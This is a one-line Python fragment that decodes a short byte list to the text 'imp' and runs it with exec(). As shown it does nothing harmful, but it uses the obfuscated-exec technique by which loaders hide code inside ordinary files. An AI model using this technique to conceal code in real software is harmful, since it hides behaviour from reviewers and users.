exec(bytes([105, 109, 112]).decode())
